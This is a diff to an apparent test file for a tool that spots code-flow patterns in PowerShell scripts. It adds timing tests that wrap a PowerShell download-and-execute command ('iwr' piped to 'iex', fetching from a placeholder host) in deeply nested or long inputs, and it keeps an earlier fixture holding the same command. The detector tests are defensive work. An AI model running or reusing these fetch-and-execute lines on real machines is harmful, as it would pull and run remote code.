@@ -95,3 +95,14 @@ test('a shell that starts it hands it code of its own', async () => {
   const facts = await factsOf({ 'a.sh': 'powershell.exe -Command "iwr https://a.test/x | iex"\n' }, [probe])
   expect(facts.filter(({ kind }) => kind === 'code.flow')).toHaveLength(1)
 })
+
+test.each([
+  ['commands inside commands', `${'iex $('.repeat(60)}iwr https://a.test/x${')'.repeat(60)}`],
+  ['modules inside modules', `${'import-module $('.repeat(60)}iwr https://a.test/x${')'.repeat(60)}`],
+  ['a long pipe', `iwr https://a.test/x ${'| foo '.repeat(1000)}| iex`],
+  ['blocks inside blocks', `${'foo { '.repeat(60)}iex (iwr https://a.test/x)${' }'.repeat(60)}`],
+])('the work grows with the text, not with its depth: %s', async (_, text) => {
+  const started = performance.now()
+  await flowsOf(text)
+  expect(performance.now() - started).toBeLessThan(5000)
+})
